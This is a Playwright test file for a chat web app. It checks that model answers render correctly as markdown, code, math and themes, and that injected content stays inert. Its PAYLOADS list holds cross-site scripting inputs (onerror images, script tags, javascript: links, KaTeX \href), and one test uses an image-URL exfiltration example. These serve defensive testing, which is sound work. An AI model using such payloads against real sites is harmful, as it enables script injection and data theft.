"""Answers rendered in a real browser: markdown, highlighted code with a Copy button, math, the same
while streaming as after a reload, and model output that tries to inject anything staying inert.

Answers are written straight into the database (the page then renders them from their text, as after
a reload) or published on the answer's stream as the runner would, with no engine running them.
"""

from __future__ import annotations

import asyncio

import pytest
from channels.db import database_sync_to_async
from django.urls import reverse

from accounts.models import User, UserSettings
from conversations.models import Message
from conversations.services import conversation_create, conversation_share
from inference.models import Generation
from inference.streaming.streams import StreamPublisher
from tests.browser.conftest import BROWSER_MARKS, SOURCE, sign_in

pytestmark = [mark for mark in BROWSER_MARKS if mark.name != "engine"]


@pytest.fixture
async def chat_server(server_without_engine, monkeypatch):
    """No engine (the chat socket would start one): every answer here is written by the test."""
    from inference.execution.dispatch import local_backend

    async def not_started() -> None:
        return None

    monkeypatch.setattr(local_backend, "start", not_started)
    return server_without_engine


@pytest.fixture(autouse=True)
def script_errors(page):
    """Every script error on the page: a test fails on any. (A missing favicon is no script's.)"""
    errors: list[str] = []
    page.set_default_timeout(20_000)  # nothing here waits for an engine
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on(
        "console",
        lambda m: errors.append(m.text) if m.type == "error" and "Failed to load resource" not in m.text else None,
    )
    yield errors
    assert errors == []


MARKDOWN = """# Heading one

Some **bold**, *emphasis*, `inline code` and a [link](https://example.org/page "A title").

- first
- second

1. one
2. two

> a quote

| name | count |
|------|------:|
| pears | 12 |

```python
def greet(name):
    return f"Hello {name}"
```

The end.
"""

MATH = r"""Euler: $e^{i\pi} + 1 = 0$, and

$$
\int_0^1 x^2\,dx = \frac{1}{3}
$$

It costs $5 and $10 (plain dollars)."""


# The same math in TeX's own delimiters, as many models write it; code keeps its backslashes.
BACKSLASH_MATH = r"""Inline \(a^2 + b^2 = c^2\), and on its own:

\[
\int_0^1 x\,dx = \frac{1}{2}
\]

Also \[ \sqrt{4} = 2 \] within a line, while items\[0\] is an escaped bracket.

Written as code: `\(x\)` and `\[y\]`.

```latex
\[ \frac{a}{b} \] and \(c\)
```
"""

PHONE = {"width": 390, "height": 844}
DESKTOP = {"width": 1280, "height": 800}


@database_sync_to_async
def _answer_saved(username: str, content: str, *, in_progress: bool = False) -> tuple[int, str]:
    """A conversation of `username`'s with one question and an answer of `content` (or one still being
    written, whose generation no engine runs). Returns the conversation's and the answer's ids."""
    user = User.objects.get(username=username)
    conversation = conversation_create(user=user, title="Rendering")
    question = Message.objects.create(conversation=conversation, role="user", content="Show me.")
    generation = Generation.objects.create(
        user=user,
        deployment=conversation.deployment,
        prompt_token_ids=[1],
        status=Generation.Status.RUNNING if in_progress else Generation.Status.COMPLETE,
        text="" if in_progress else content,
    )
    answer = Message.objects.create(
        conversation=conversation,
        role="assistant",
        parent=question,
        content="" if in_progress else content,
        status=Message.Status.STREAMING if in_progress else Message.Status.COMPLETE,
        generation=generation,
    )
    return conversation.id, answer.id


@database_sync_to_async
def _answer_finished(answer_id: int, content: str) -> None:
    answer = Message.objects.select_related("generation").get(id=answer_id)
    Generation.objects.filter(id=answer.generation_id).update(status=Generation.Status.COMPLETE, text=content)
    Message.objects.filter(id=answer_id).update(content=content, status=Message.Status.COMPLETE)


async def _shown(page, username: str, content: str):
    """Sign `username` up, save an answer of `content`, open its conversation: the answer's content."""
    await sign_in(page, username)
    conversation_id, answer_id = await _answer_saved(username, content)
    await page.goto(f"/c/{conversation_id}/")
    return page.locator(f'article[data-message="{answer_id}"] .content')


async def test_markdown_is_rendered(page):
    content = await _shown(page, "alice", MARKDOWN)
    assert await content.locator("h1").text_content() == "Heading one"
    assert await content.locator("p strong").text_content() == "bold"
    assert await content.locator("p em").text_content() == "emphasis"
    assert await content.locator("p > code").text_content() == "inline code"
    link = content.locator("a", has_text="link")
    assert await link.get_attribute("href") == "https://example.org/page"
    assert await link.get_attribute("title") == "A title"
    assert await link.get_attribute("target") == "_blank"
    assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert await content.locator("ul > li").all_text_contents() == ["first", "second"]
    assert await content.locator("ol > li").all_text_contents() == ["one", "two"]
    assert (await content.locator("blockquote").text_content()).strip() == "a quote"
    assert await content.locator("table th").all_text_contents() == ["name", "count"]
    assert await content.locator("table td").all_text_contents() == ["pears", "12"]
    # The column's alignment comes through the CSSOM, which the page's policy allows (attributes it refuses).
    assert await content.locator("table td").last.evaluate("td => getComputedStyle(td).textAlign") == "right"
    assert (await content.locator("p").last.text_content()) == "The end."


async def test_a_code_block_is_highlighted_labelled_and_copied(page):
    await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    content = await _shown(page, "bob", MARKDOWN)
    block = content.locator(".code-block")
    assert await block.locator(".code-language").text_content() == "python"
    code = block.locator("pre > code")
    assert "hljs" in await code.get_attribute("class")
    assert await code.locator(".hljs-keyword").first.text_content() == "def"
    assert await code.locator(".hljs-string").count() >= 1
    assert await code.text_content() == 'def greet(name):\n    return f"Hello {name}"\n'

    await block.locator("button.code-copy").click()
    await page.wait_for_selector(".code-copy:text('Copied')")
    assert await page.evaluate("() => navigator.clipboard.readText()") == await code.text_content()


async def test_math_is_rendered_by_katex_under_the_pages_policy(page):
    violations = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    content = await _shown(page, "carol", MATH)
    assert await content.locator(".katex").count() == 2
    assert await content.locator(".katex-display").count() == 1
    assert await content.locator(".katex-display .mfrac").count() == 1
    assert await content.locator(".katex-error").count() == 0
    assert "It costs $5 and $10 (plain dollars)." in await content.text_content()
    # KaTeX lays glyphs out with inline sizes: they must reach the page (the policy refuses style attributes).
    strut_height = await content.locator(".katex-display .katex-strut").first.evaluate("s => s.style.height")
    assert strut_height.endswith("em")
    # Its fonts come from the site itself.
    families = await page.evaluate("() => document.fonts.check('1em KaTeX_Main')")
    assert families
    assert violations == []


async def test_math_between_backslash_delimiters_is_rendered_and_code_keeps_its_backslashes(page):
    content = await _shown(page, "erin", BACKSLASH_MATH)
    assert await content.locator(".katex").count() == 3
    assert await content.locator(".katex-display").count() == 2
    assert await content.locator(".katex-display .mfrac").count() == 1
    assert await content.locator(".katex-display .sqrt").count() == 1
    # The radical is an SVG path: the sanitizer keeps its drawing (and every plain attribute value).
    assert (await content.locator(".katex-display .sqrt svg path").get_attribute("d")).startswith("M")
    assert await content.locator(".katex-error").count() == 0
    # Around the math, the text is as written: no delimiter or backslash left behind.
    outside = await content.evaluate(
        "el => { const c = el.cloneNode(true); c.querySelectorAll('.katex, pre').forEach(k => k.remove());"
        " return c.textContent; }"
    )
    assert "Inline , and on its own:" in outside
    assert "Also  within a line, while items[0] is an escaped bracket." in outside
    assert await content.locator(":not(pre) > code").all_text_contents() == [r"\(x\)", r"\[y\]"]
    assert await content.locator("pre > code").text_content() == "\\[ \\frac{a}{b} \\] and \\(c\\)\n"
    assert await content.evaluate(SOURCE) == BACKSLASH_MATH


CODE_COLOURS = "c => [getComputedStyle(c).backgroundColor, getComputedStyle(c).color]"
LIGHT_CODE = ["rgb(255, 255, 255)", "rgb(36, 41, 46)"]  # highlight.js's GitHub style
DARK_CODE = ["rgb(13, 17, 23)", "rgb(201, 209, 217)"]  # and its GitHub Dark


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
async def test_code_blocks_follow_the_theme(page, viewport):
    await page.set_viewport_size(viewport)
    content = await _shown(page, "fiona", MARKDOWN)
    code = content.locator(".code-block pre > code")
    # The theme the system asks for (the default), as it changes.
    assert await code.evaluate(CODE_COLOURS) == LIGHT_CODE
    await page.emulate_media(color_scheme="dark")
    assert await code.evaluate(CODE_COLOURS) == DARK_CODE
    assert await code.locator(".hljs-keyword").first.evaluate("k => getComputedStyle(k).color") == "rgb(255, 123, 114)"
    # A theme chosen in the settings, whatever the system's.
    user = await User.objects.aget(username="fiona")
    for theme, system, colours in (("light", "dark", LIGHT_CODE), ("dark", "light", DARK_CODE)):
        await UserSettings.objects.aupdate_or_create(user=user, defaults={"theme": theme})
        await page.emulate_media(color_scheme=system)
        await page.reload()
        await content.locator(".code-block").wait_for()
        assert await code.evaluate(CODE_COLOURS) == colours, theme


async def test_an_answer_renders_the_same_streamed_and_after_a_reload(page):
    await sign_in(page, "dave")
    conversation_id, answer_id = await _answer_saved("dave", "", in_progress=True)
    generation = (await Message.objects.aget(id=answer_id)).generation_id
    await page.goto(f"/c/{conversation_id}/")
    await page.wait_for_selector("#chat[data-socket=open]", state="attached")
    content = page.locator(f'article[data-message="{answer_id}"] .content')

    text = MARKDOWN + "\n" + MATH
    publisher = StreamPublisher(generation, coalesce_ms=0)
    await publisher.add_text(text[:30])
    heading = await content.locator("h1").element_handle()
    assert await heading.text_content() == "Heading one"
    for start in range(30, len(text), 7):
        await publisher.add_text(text[start : start + 7])
        await asyncio.sleep(0.01)
    await publisher.finish(status="complete", finish_reason="stop", usage={})
    await page.wait_for_selector(f'article[data-message="{answer_id}"][data-status=complete]')
    streamed = await content.inner_html()
    assert await heading.evaluate("h => h.isConnected"), "a closed block is not drawn again"
    assert await content.evaluate("el => ChatRender.source(el)") == text

    await _answer_finished(answer_id, text)
    await page.reload()
    await page.wait_for_selector(f'article[data-message="{answer_id}"] .content h1')
    assert await content.inner_html() == streamed
    assert await content.locator(".katex").count() == 2
    assert await content.locator(".hljs-keyword").count() >= 1


# Each answer tries to run `window.pwned = 1` or to load something; none may.
PAYLOADS = {
    "img onerror": '<img src=x onerror="window.pwned=1">',
    "script": "<script>window.pwned=1</script>",
    "javascript link": "[click me](javascript:window.pwned=1)",
    "javascript autolink": "<javascript:window.pwned=1>",
    "data link": "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "javascript reference link": "[click me][x]\n\n[x]: javascript:window.pwned=1",
    "in a code block": '```html\n<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>\n```',
    "in inline code": '`<img src=x onerror="window.pwned=1">`',
    "in a table": (
        '| a | b |\n|---|---|\n| <img src=x onerror="window.pwned=1"> | [click me](javascript:window.pwned=1) |'
    ),
    "in a link title": '[click me](https://example.org/ "x\\" onmouseover=\\"window.pwned=1")',
    "in math": r"$\href{javascript:window.pwned=1}{click me}$ and $\htmlId{x}{y}$",
    "in backslash math": r"\(\href{javascript:window.pwned=1}{click me}\) and \[\htmlId{x}{y}\]",
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
async def test_model_output_that_tries_to_inject_stays_inert(page, payload):
    content = await _shown(page, "mallory", payload)
    await page.wait_for_selector(".content.markdown")
    for link in await content.locator("a").all():
        await link.hover()
    await asyncio.sleep(0.3)  # an onerror fires once the image fails to load
    assert await page.evaluate("() => window.pwned") is None
    assert await content.locator("img, script, iframe, object, embed, svg image, style, form").count() == 0
    attributes = await content.evaluate(
        "el => Array.from(el.querySelectorAll('*')).flatMap(e => Array.from(e.attributes, a => a.name + '=' + a.value))"
    )
    assert not [a for a in attributes if a.startswith("on")], "no event handler attribute"
    hrefs = await content.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert all(href.startswith(("https://", "http://", "mailto:")) for href in hrefs), hrefs
    if "<" in payload and "`" not in payload and "$" not in payload:
        assert "<" in await content.text_content(), "raw HTML is shown as text"


async def test_an_external_image_is_not_loaded(page):
    requested = []
    page.on("request", lambda request: requested.append(request.url))
    content = await _shown(
        page,
        "mallory",
        "Look: ![the secret](https://images.example.net/leak?q=secret)"
        " and [![a badge](https://images.example.net/badge.svg)](https://example.org/)",
    )
    await page.wait_for_selector(".content.markdown")
    await asyncio.sleep(0.5)
    assert await content.locator("img").count() == 0
    link = content.locator("a.image-link")
    assert await link.text_content() == "the secret"
    assert await link.get_attribute("href") == "https://images.example.net/leak?q=secret"
    badge = content.locator("a", has_text="a badge")  # a linked image: the link, with the image's text
    assert await badge.get_attribute("href") == "https://example.org/"
    assert not [url for url in requested if "images.example.net" in url]


# --- the shared page ---------------------------------------------------------------------------------

SHARED_ANSWER = (
    MARKDOWN
    + "\n"
    + MATH
    + '\n\n<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
    + "\n\n[click me](javascript:window.pwned=1)"
)
SHARED_QUESTION = '<b>Bold?</b> **not markdown** <img src=x onerror="window.pwned=1">'


@database_sync_to_async
def _shared(username: str) -> str:
    """A conversation of `username`'s, with a question and an answer of SHARED_ANSWER, shared: its path."""
    user = User.objects.create_user(username=username, password="irrelevant")
    conversation = conversation_create(user=user, title="Shared")
    question = Message.objects.create(conversation=conversation, role="user", content=SHARED_QUESTION)
    Message.objects.create(conversation=conversation, role="assistant", parent=question, content=SHARED_ANSWER)
    return reverse("conversations:shared", args=[conversation_share(conversation=conversation).token])


async def test_a_shared_page_renders_answers_as_the_chat_page_does_and_keeps_injections_inert(page):
    await page.add_init_script(
        'document.addEventListener("securitypolicyviolation", e => console.error("CSP violation: " + e.violatedDirective));'
    )
    path = await _shared("nina")
    await page.context.clear_cookies()  # anyone with the link: nobody signed in
    await page.goto(path)
    answer = page.locator("article.message.assistant .content")
    await page.wait_for_selector("article.message.assistant .content.markdown")

    assert await answer.locator("h1").text_content() == "Heading one"
    code = answer.locator(".code-block pre > code")
    assert "language-python" in await code.get_attribute("class")
    assert await code.locator(".hljs-keyword").first.text_content() == "def"
    assert await answer.locator("table td").all_text_contents() == ["pears", "12"]
    assert await answer.locator("table td").last.evaluate("td => getComputedStyle(td).textAlign") == "right"
    assert await answer.locator(".katex-display .mfrac").count() == 1
    assert await answer.locator(".katex-error").count() == 0

    await asyncio.sleep(0.3)  # an onerror fires once the image fails to load
    assert await page.evaluate("() => window.pwned") is None
    assert await page.locator("#messages").locator("img, script, iframe, object, embed, style, form").count() == 0
    assert "<script>window.pwned=1</script>" in await answer.text_content(), "raw HTML is shown as text"
    hrefs = await answer.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert all(href.startswith(("https://", "http://", "mailto:")) for href in hrefs), hrefs
    # A question is the text it was: neither markdown nor HTML.
    question = page.locator("article.message.user .content")
    assert await question.text_content() == SHARED_QUESTION
    assert await question.locator("*").count() == 0
